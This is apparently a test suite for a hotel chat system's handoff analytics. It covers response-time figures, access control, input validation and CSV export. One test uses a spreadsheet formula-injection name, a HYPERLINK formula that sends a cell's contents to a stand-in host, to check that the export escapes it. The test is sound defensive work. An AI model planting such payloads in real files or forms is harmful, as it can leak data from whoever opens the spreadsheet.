// Handoff analytics checked against a history built by hand through the real API on a test clock:
// guests write, staff open, reply, release and clock in and out, one alert fires; every figure
// of docs/analytics.md is then asserted exactly. Then who may read them, and abuse.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { createStaff } from '../../src/domain/admin.js';
import { TestClock } from '../helpers/domain.js';
import { client, guest, login, type Client } from '../helpers/http.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

const HOTEL = 'hotel-abc';
const base = `/chat/${HOTEL}/conversations`;
const T0 = Date.parse('2026-11-30T09:00:00Z');
/** 2026-12-01 00:30 in Berlin, still 2026-11-30 in UTC. */
const T1 = Date.parse('2026-11-30T23:30:00Z');
const MIN = 60_000;

let server: TestServer;
let api: Client;
const clock = new TestClock(T0);
const t: Record<string, string> = {};
const convo: Record<string, number> = {};
const staffId: Record<string, number> = {};

const at = (ms: number): void => clock.advance(ms - clock.now().getTime());
const ok = async (p: Promise<{ status: number; body: unknown }>, status = 200): Promise<void> => {
  const r = await p;
  assert.equal(r.status, status, JSON.stringify(r.body));
};
const say = (who: string, room: string, message: string) => ok(api.post(`${base}/${convo[room]}/messages/send/`, t[who], { message }), 201);
const duty = (who: string, onDuty: boolean) => ok(api.post(`/chat/${HOTEL}/duty/`, t[who], { on_duty: onDuty }));
const analytics = (query: string, token = t.manager) => api.get(`/admin/${HOTEL}/analytics/?${query}`, token);

before(async () => {
  server = await startTestServer({ clock, alertPollMs: 3_600_000, env: { STAFF_TOKEN_TTL_SECONDS: String(30 * 86400) } });
  api = client(server.url);
  for (const name of ['sarah', 'mike', 'john', 'emma', 'manager']) {
    t[name] = await login(api, name);
    staffId[name] = (await api.get('/auth/me/', t[name])).body.id;
  }
  await ok(api.patch(`/admin/${HOTEL}/desk/settings/`, t.manager, { time_zone: 'Europe/Berlin' }));
  for (const [room, n] of [['A', 101], ['B', 102], ['C', 103], ['D', 104]] as const) {
    const g = await guest(api, n);
    t[`g${room}`] = g.session_token;
    convo[room] = g.conversation_id;
  }
  // Day one (Berlin 2026-11-30), minutes after T0.
  at(T0); await duty('sarah', true);
  at(T0 + 1 * MIN); await duty('mike', true);
  at(T0 + 2 * MIN); await say('gA', 'A', 'Hi, is breakfast included?'); // wait W1 starts
  at(T0 + 4 * MIN); await say('gB', 'B', 'Hello'); // W2
  at(T0 + 5 * MIN); await say('gA', 'A', 'Anyone?'); // still W1
  at(T0 + 7 * MIN); await say('sarah', 'A', 'Yes, 7 to 10.'); // W1 = 300 s, Sarah takes A
  at(T0 + 10 * MIN); await ok(api.post(`${base}/${convo.B}/assign-staff/`, t.mike));
  at(T0 + 13 * MIN); await say('mike', 'B', 'Hello, how can I help?'); // W2 = 540 s
  at(T0 + 15 * MIN); await say('gA', 'A', 'Extra towels please'); // W3
  await server.alerts.tick(); // schedules W3's first reply alert (due after 10 minutes)
  at(T0 + 26 * MIN); assert.equal(await server.alerts.tick() >= 0, true); // fires it to the handler, Sarah
  at(T0 + 27 * MIN); await say('mike', 'A', 'On their way.'); // W3 = 720 s; Mike takes A over from Sarah
  at(T0 + 28 * MIN); await say('gB', 'B', 'When is checkout?'); // W4
  at(T0 + 30 * MIN); await duty('mike', false); // releases A and B: two orphans
  at(T0 + 40 * MIN); await ok(api.post(`${base}/${convo.B}/assign-staff/`, t.sarah)); // B covered after 600 s
  at(T0 + 46 * MIN); await say('sarah', 'B', 'At 11.'); // W4 = 1080 s
  at(T0 + 50 * MIN); await say('gC', 'C', 'Is the pool open?'); // W5, never answered
  at(T0 + 52 * MIN); await ok(api.post(`${base}/${convo.C}/assign-staff/`, t.emma));
  at(T0 + 55 * MIN); await ok(api.post(`${base}/${convo.C}/release/`, t.emma, { reason: 'lunch' })); // a release, not an orphan
  at(T0 + 60 * MIN); await duty('john', true);
  at(T0 + 90 * MIN); await say('john', 'A', 'Anything else?'); // A covered after 3,600 s
  // Day two in Berlin (still 2026-11-30 in UTC).
  at(T1); await say('gD', 'D', 'Late check-in?'); // W6
  at(T1 + 20 * MIN); await say('emma', 'D', 'Of course.'); // W6 = 1200 s
  at(T1 + 30 * MIN); await duty('sarah', false); // releases B: an orphan nobody covers
  at(T1 + 40 * MIN);
});
after(() => server.close());

const d = (count: number, p50: number | null, p90: number | null, mean: number | null) => ({ count, p50_seconds: p50, p90_seconds: p90, mean_seconds: mean });

describe('handoff analytics over a hand-built history', () => {
  let r: any;
  before(async () => {
    const a = await analytics('from=2026-11-30&to=2026-12-01');
    assert.equal(a.status, 200, JSON.stringify(a.body));
    r = a.body;
  });
  const name = (n: string) => ({ staff_id: staffId[n], name: { sarah: 'Sarah Jones', mike: 'Mike Thompson', john: 'John Smith', emma: 'Emma Brown', manager: 'Maria Garcia' }[n] });

  it('answers for the window on the hotel clock', () => {
    assert.deepEqual([r.hotel_slug, r.from, r.to, r.time_zone], [HOTEL, '2026-11-30', '2026-12-01', 'Europe/Berlin']);
  });

  it('measures first-response time from the guest message that starts a wait to the first staff reply', () => {
    assert.deepEqual(r.first_response.overall, { ...d(5, 720, 1152, 768), unanswered: 1 });
    assert.deepEqual(r.first_response.by_day, [
      { day: '2026-11-30', ...d(4, 630, 972, 660), unanswered: 1 },
      { day: '2026-12-01', ...d(1, 1200, 1200, 1200), unanswered: 0 },
    ]);
    const byStaff = [...r.first_response.by_staff].sort((x: any, y: any) => x.staff_id - y.staff_id);
    assert.deepEqual(byStaff, [
      { ...name('sarah'), ...d(2, 690, 1002, 690) },
      { ...name('mike'), ...d(2, 630, 702, 630) },
      { ...name('emma'), ...d(1, 1200, 1200, 1200) },
    ].sort((x, y) => x.staff_id! - y.staff_id!));
  });

  it('counts handoffs per conversation started in the window', () => {
    assert.deepEqual(r.handoffs, {
      conversations: 5,
      handoffs: 5,
      mean: 1,
      distribution: [{ handoffs: 0, conversations: 2 }, { handoffs: 1, conversations: 1 }, { handoffs: 2, conversations: 2 }],
    });
  });

  it('measures the time to the next staff message after each handoff, released or taken over', () => {
    assert.deepEqual(r.reply_after_handoff, {
      overall: { ...d(3, 960, 3072, 1520), unanswered: 2 },
      by_kind: [
        { kind: 'released', ...d(2, 2280, 3336, 2280), unanswered: 2 },
        { kind: 'taken_over', ...d(1, 0, 0, 0), unanswered: 0 },
      ],
    });
  });

  it('finds the conversations a clock-out released and how long they waited for cover', () => {
    assert.deepEqual(r.orphaned, {
      released: 3,
      covered: 2,
      wait: { ...d(2, 2100, 3300, 2100), max_seconds: 3600 },
      by_staff: [{ ...name('sarah'), released: 1, covered: 0 }, { ...name('mike'), released: 2, covered: 2 }].sort((x, y) => x.staff_id! - y.staff_id!),
      by_day: [{ day: '2026-11-30', released: 2, covered: 2, p50_seconds: 2100 }, { day: '2026-12-01', released: 1, covered: 0, p50_seconds: null }],
    });
  });

  it('gives the backlog at each clock-in and clock-out', () => {
    assert.deepEqual(r.shift_changes, [
      { at: new Date(T0).toISOString(), ...name('sarah'), on_duty: true, waiting: 0, needs_cover: 0 },
      { at: new Date(T0 + MIN).toISOString(), ...name('mike'), on_duty: true, waiting: 0, needs_cover: 0 },
      { at: new Date(T0 + 30 * MIN).toISOString(), ...name('mike'), on_duty: false, waiting: 1, needs_cover: 2 },
      { at: new Date(T0 + 60 * MIN).toISOString(), ...name('john'), on_duty: true, waiting: 1, needs_cover: 2 },
      { at: new Date(T1 + 30 * MIN).toISOString(), ...name('sarah'), on_duty: false, waiting: 1, needs_cover: 2 },
    ]);
  });

  it('gives each staff member their load and the alerts', () => {
    const load = (n: string, role: string, conversations: number, messages: number, received: number, given: number, alerts: number) =>
      ({ ...name(n), role, is_active: true, conversations, messages, handoffs_received: received, handoffs_given: given, alerts });
    const rows = r.staff_load.filter((s: any) => Object.values(staffId).includes(s.staff_id));
    assert.deepEqual(rows, [
      load('sarah', 'Receptionist', 2, 2, 1, 2, 1),
      load('mike', 'Night Receptionist', 2, 2, 1, 2, 0),
      load('john', 'Receptionist', 1, 1, 1, 0, 0),
      load('emma', 'Receptionist', 1, 1, 0, 1, 0),
      load('manager', 'Front Office Manager', 0, 0, 0, 0, 0),
    ].sort((x, y) => x.staff_id! - y.staff_id!));
    assert.deepEqual(r.alerts, [{ kind: 'reply', audience: 'handler', count: 1 }]);
  });

  it("counts days on the hotel's clock: a window of Berlin's 1 December holds only that night", async () => {
    const day2 = (await analytics('from=2026-12-01&to=2026-12-01')).body;
    assert.deepEqual(day2.first_response.overall, { ...d(1, 1200, 1200, 1200), unanswered: 0 });
    assert.equal(day2.handoffs.conversations, 0);
    assert.deepEqual(day2.shift_changes.map((c: any) => [c.name, c.on_duty, c.waiting, c.needs_cover]), [['Sarah Jones', false, 1, 2]]);
    assert.equal(day2.orphaned.released, 1);
    const before = (await analytics('from=2026-11-01&to=2026-11-29')).body;
    assert.deepEqual([before.first_response.overall.count, before.handoffs.conversations, before.shift_changes.length, before.staff_load.length], [0, 0, 0, 5]);
  });

  it('defaults to the last 30 days up to today on the hotel clock', async () => {
    const a = await analytics('');
    assert.equal(a.status, 200);
    assert.deepEqual([a.body.from, a.body.to], ['2026-11-02', '2026-12-01']);
    assert.equal(a.body.first_response.overall.count, 5);
  });

  it('exports each table as CSV with a header row', async () => {
    const csv = await api.call('GET', `/admin/${HOTEL}/analytics.csv?report=first-response-by-day&from=2026-11-30&to=2026-12-01`, { token: t.manager });
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
    assert.equal(csv.headers.get('content-disposition'), 'attachment; filename="hotel-abc-first-response-by-day-2026-11-30-2026-12-01.csv"');
    assert.equal(csv.body, 'day,count,p50_seconds,p90_seconds,mean_seconds,unanswered\r\n2026-11-30,4,630,972,660,1\r\n2026-12-01,1,1200,1200,1200,0\r\n');
    const orphans = await api.call('GET', `/admin/${HOTEL}/analytics.csv?report=orphaned-by-day&from=2026-11-30&to=2026-12-01`, { token: t.manager });
    assert.equal(orphans.body, 'day,released,covered,p50_seconds\r\n2026-11-30,2,2,2100\r\n2026-12-01,1,0,\r\n');
  });
});

describe('who may read the analytics', () => {
  const who: Record<string, string | undefined> = {};
  before(async () => {
    who.guest = t.gA;
    who.otherRoomGuest = t.gB;
    who.receptionist = t.sarah;
    await createStaff(server.deps, { kind: 'system' }, 'hotel-xyz', { username: 'xyz-boss', password: 'amber-kettle-9', firstName: 'X', lastName: 'Boss', role: 'Manager', isManager: true });
    who.otherManager = await login(api, 'xyz-boss', 'amber-kettle-9');
    const temp = await api.post(`/admin/${HOTEL}/staff/`, t.manager, { username: 'gone-boss', password: 'amber-kettle-9', first_name: 'Gone', last_name: 'Boss', role: 'Manager', is_manager: true });
    who.deactivated = await login(api, 'gone-boss', 'amber-kettle-9');
    await ok(api.patch(`/admin/${HOTEL}/staff/${temp.body.id}/`, t.manager, { is_active: false }));
    const temp2 = await api.post(`/admin/${HOTEL}/staff/`, t.manager, { username: 'out-boss', password: 'amber-kettle-9', first_name: 'Out', last_name: 'Boss', role: 'Manager', is_manager: true });
    assert.equal(temp2.status, 201);
    who.loggedOut = await login(api, 'out-boss', 'amber-kettle-9');
    await ok(api.post('/auth/logout/', who.loggedOut), 204);
  });

  const cases: Array<[string, number, string]> = [
    ['anonymous', 401, 'not_authenticated'], ['guest', 403, 'forbidden'], ['otherRoomGuest', 403, 'forbidden'], ['receptionist', 403, 'forbidden'],
    ['otherManager', 403, 'forbidden'], ['deactivated', 401, 'not_authenticated'], ['loggedOut', 401, 'not_authenticated'],
  ];
  for (const [role, status, code] of cases) {
    it(`refuses the ${role} with ${status}, as JSON and as CSV`, async () => {
      const json = await api.get(`/admin/${HOTEL}/analytics/?from=2026-11-30&to=2026-12-01`, who[role]);
      assert.equal(json.status, status);
      assert.equal(json.body.code, code);
      const csv = await api.call('GET', `/admin/${HOTEL}/analytics.csv?report=staff-load`, { token: who[role] });
      assert.equal(csv.status, status);
      assert.equal(csv.body.code, code);
    });
  }

  it("refuses a manager another hotel's figures, and a hotel that does not exist", async () => {
    assert.equal((await api.get('/admin/hotel-xyz/analytics/', t.manager)).status, 403);
    assert.equal((await api.get('/admin/no-such-hotel/analytics/', t.manager)).status, 403);
    const own = await api.get('/admin/hotel-xyz/analytics/', who.otherManager);
    assert.equal(own.status, 200);
    assert.equal(own.body.first_response.overall.count, 0);
  });
});

describe('abuse of the analytics', () => {
  const bad: Array<[string, string]> = [
    ['from=2026-02-30&to=2026-03-01', 'not a calendar date'],
    ['from=yesterday', 'not a date at all'],
    ['from=2026-12-01&to=2026-11-30', 'a reversed range'],
    ['from=2025-01-01&to=2026-12-01', 'more than 366 days'],
    ['from=1999-12-31&to=2000-01-01', 'before 2000'],
    ['from=2026-11-30&to=2026-12-01&hotel_id=2', 'an unknown parameter'],
    [`from=${'2'.repeat(5000)}`, 'an oversized value'],
  ];
  for (const [query, what] of bad) {
    it(`answers 400 invalid_request for ${what}`, async () => {
      const r = await analytics(query);
      assert.equal(r.status, 400);
      assert.equal(r.body.code, 'invalid_request');
      assert.equal(typeof r.body.error, 'string');
    });
  }

  it('accepts a whole leap year of 366 days', async () => {
    assert.equal((await analytics('from=2024-01-01&to=2024-12-31')).status, 200);
  });

  it('refuses an unknown CSV report', async () => {
    const r = await api.call('GET', `/admin/${HOTEL}/analytics.csv?report=passwords`, { token: t.manager });
    assert.equal(r.status, 400);
    assert.equal(r.body.code, 'invalid_request');
  });

  it('answers a burst of concurrent requests with figures or a clear 429, and answers again after it', async () => {
    const all = await Promise.all(Array.from({ length: 30 }, () => analytics('from=2026-11-30&to=2026-12-01')));
    const statuses = all.map((a) => a.status);
    assert.ok(statuses.every((s) => s === 200 || s === 429), statuses.join(','));
    assert.ok(statuses.filter((s) => s === 200).length >= 8, statuses.join(','));
    for (const a of all) {
      if (a.status === 200) assert.equal(a.body.first_response.overall.count, 5);
      else assert.equal(a.body.code, 'rate_limited');
    }
    assert.equal((await analytics('from=2026-11-30&to=2026-12-01')).status, 200);
  });

  it('keeps a name a spreadsheet would run as a formula as text in the CSV', async () => {
    const evil = await api.post(`/admin/${HOTEL}/staff/`, t.manager, {
      username: 'evil', password: 'amber-kettle-9', first_name: '=HYPERLINK("http://x.example/?"&A1,"Click")', last_name: 'Smith, Jr', role: '@SUM(1+1)',
    });
    assert.equal(evil.status, 201);
    const csv = await api.call('GET', `/admin/${HOTEL}/analytics.csv?report=staff-load&from=2026-11-30&to=2026-12-01`, { token: t.manager });
    assert.equal(csv.status, 200);
    const line = (csv.body as string).split('\r\n').find((l) => l.startsWith(`${evil.body.id},`));
    assert.equal(line, `${evil.body.id},"'=HYPERLINK(""http://x.example/?""&A1,""Click"") Smith, Jr",'@SUM(1+1),true,0,0,0,0,0`);
    const sarah = (csv.body as string).split('\r\n').find((l) => l.startsWith(`${staffId.sarah},`));
    assert.equal(sarah, `${staffId.sarah},Sarah Jones,Receptionist,true,2,2,1,2,1`);
  });
});
